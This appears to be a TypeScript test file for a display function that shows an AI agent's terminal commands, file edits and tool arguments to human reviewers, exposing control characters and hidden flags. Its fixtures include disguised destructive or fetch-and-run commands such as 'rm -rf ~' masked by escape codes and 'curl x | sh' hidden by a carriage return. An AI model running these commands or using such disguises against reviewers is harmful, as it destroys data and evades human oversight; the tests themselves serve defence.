import fc from 'fast-check'
import { expect, test } from 'vitest'
import { visibleText } from '../visible-text.ts'
import { shownAction } from './shown-action.ts'

const textsOf = (event: Readonly<Record<string, unknown>>) => shownAction(event).lines.map(({ text }) => text)
const terminal = (command: string, more = {}) => ({
  tool_name: 'terminal',
  action: { kind: 'TerminalAction', command, is_input: false, reset: false, ...more },
})

test.each([
  ['an escape sequence', 'ls \u001b[2K\u001b[1A; rm -rf ~', ['ls ␛[2K␛[1A; rm -rf ~']],
  ['a return that writes over the line', 'curl x | sh\rls', ['curl x | sh␍ls']],
  ['backspaces', 'rm x\b\b\b\bls', ['rm x␈␈␈␈ls']],
  ['a mark of the direction', 'cat \u202egpj.sh', ['cat \\u{202e}gpj.sh']],
  ['characters without a width', 'r\u200bm\ufeff', ['r\\u{200b}m\\u{feff}']],
  ['tabs', 'a\tb', ['a␉b']],
  ['lines', 'one\n  two\n\nthree\n', ['one', '  two', '', 'three']],
  ['separators that are no line feeds', 'one\u2028two\u0085three', ['one\\u{2028}two\\u{85}three']],
])('a command with %s', (_, command, lines) => {
  expect(textsOf(terminal(command))).toEqual(lines)
})

test('10,000 lines and a line of 100,000 characters are shown whole', () => {
  const lines = Array.from({ length: 10_000 }, (_, n) => `echo ${n}`)
  expect(textsOf(terminal(lines.join('\n')))).toEqual(lines)
  const line = `${'x'.repeat(99_990)}; rm -rf ~`
  expect(textsOf(terminal(line))).toEqual([line])
})

test('what changes the meaning of a command is beside it', () => {
  const arguments_ = JSON.stringify({ command: 'y', outside_sandbox: true })
  const shown = shownAction({
    ...terminal('y', { is_input: true, timeout: 3 }),
    security_risk: 'HIGH',
    tool_call: { arguments: arguments_ },
  })
  expect(shown).toMatchObject({ tool: 'terminal', risk: 'HIGH', subject: '' })
  expect(shown.lines).toEqual([
    { kind: 'command', text: 'y' },
    { kind: 'member', text: 'is_input: true' },
    { kind: 'member', text: 'timeout: 3' },
    { kind: 'member', text: 'outside_sandbox: true' },
  ])
})

test.each(['FileEditorAction', 'EditAction'])('that an edit is for every place is beside it: %s', (kind) => {
  const tool_call = { arguments: '{"replace_all": true}' }
  expect(textsOf({ action: { kind, command: 'str_replace', path: '/a' }, tool_call })).toContain(
    'replace_all: true',
  )
  expect(textsOf({ action: { kind: 'MCPToolAction', data: {} }, tool_call })).toEqual([])
})

test.each([
  [
    {
      kind: 'FileEditorAction',
      command: 'str_replace',
      path: '/a',
      old_str: 'a\nb\nc\n',
      new_str: 'a\nB\nc\n',
    },
    'str_replace /a',
    ['  a', '- b', '+ B', '  c'],
  ],
  [
    { kind: 'FileEditorAction', command: 'create', path: '/a\n+ b', file_text: 'one\n\u001b[A' },
    'create /a␊+ b',
    ['+ one', '+ ␛[A'],
  ],
  [
    { kind: 'FileEditorAction', command: 'insert', path: '/a', insert_line: 3, new_str: 'x' },
    'insert /a',
    ['+ x', 'insert_line: 3'],
  ],
  [{ kind: 'EditAction', file_path: 'a', old_string: 'x\n', new_string: '' }, 'a', ['- x']],
  [
    { kind: 'EditAction', file_path: 'a', old_string: 'x\n', new_string: 'x', expected_replacements: 1 },
    'a',
    ['- x', '+ x', '\\ No line feed at the end'],
  ],
  [{ kind: 'WriteFileAction', file_path: 'a', content: 'x\ny' }, 'a', ['+ x', '+ y']],
  [
    { kind: 'ApplyPatchAction', patch: '*** Update File: a\n@@\n b\n-c\n+d' },
    '',
    ['  *** Update File: a', '  @@', '  b', '- c', '+ d'],
  ],
])('the edit %j is a difference', (action, subject, lines) => {
  const event = { tool_name: 'edit', action }
  expect(shownAction(event).subject).toBe(subject)
  expect(textsOf(event)).toEqual(lines)
})

test('an MCP call has all its arguments, those of null and false too', () => {
  const data = { url: 'http://x/\u202e', signature: 's', body: { deep: ['a\nb'] }, dry_run: false, to: null }
  expect(textsOf({ tool_name: 'send', action: { kind: 'MCPToolAction', data } })).toEqual([
    'url: http://x/\\u{202e}',
    'signature: s',
    ...['body:', '  {', '    "deep": [', '      "a\\nb"', '    ]', '  }'],
    'dry_run: false',
    'to: null',
  ])
})

test('a value of several lines is no other argument', () => {
  const data = { path: 'a\nforce: false', 'force: false\n': true }
  expect(textsOf({ action: { kind: 'MCPToolAction', data } })).toEqual([
    ...['path:', '  a', '  force: false'],
    'force: false␊: true',
  ])
})

test('a call without an action shows the arguments of the model', () => {
  expect(textsOf({ action: null, tool_call: { arguments: '{"a":1}' } })).toEqual(['arguments: {"a":1}'])
})

test('no text of an action is left out, whatever its kind and members', () => {
  const kinds = [
    ...['TerminalAction', 'BackgroundTerminalAction', 'FileEditorAction', 'PlanningFileEditorAction'],
    ...['EditAction', 'WriteFileAction', 'ApplyPatchAction', 'MCPToolAction', 'BrowserNavigateAction'],
  ]
  const names = [
    ...['command', 'path', 'old_str', 'new_str', 'file_text', 'file_path', 'old_string', 'new_string'],
    ...['content', 'patch', 'data', 'insert_line', 'other'],
  ]
  const word = fc.stringMatching(/^[a-z]{8}$/)
  const value = fc.oneof(word, fc.record({ inner: word }), fc.array(word, { maxLength: 2 }))
  const action = fc.record({
    kind: fc.constantFrom(...kinds),
    members: fc.dictionary(fc.constantFrom(...names), value),
  })
  fc.assert(
    fc.property(action, ({ kind, members }) => {
      const event = { action: { kind, ...members } }
      const all = [shownAction(event).subject, ...textsOf(event)].join('\n')
      for (const text of JSON.stringify(members).match(/\b[a-z]{8}\b/g) ?? [])
        if (!names.includes(text)) expect(all).toContain(text)
    }),
  )
})

test('nothing that is shown hides anything', () => {
  fc.assert(
    fc.property(fc.dictionary(fc.string({ unit: 'binary' }), fc.string({ unit: 'binary' })), (data) => {
      for (const line of textsOf({ action: { kind: 'MCPToolAction', data } }))
        expect(visibleText(line)).toBe(line)
    }),
  )
})
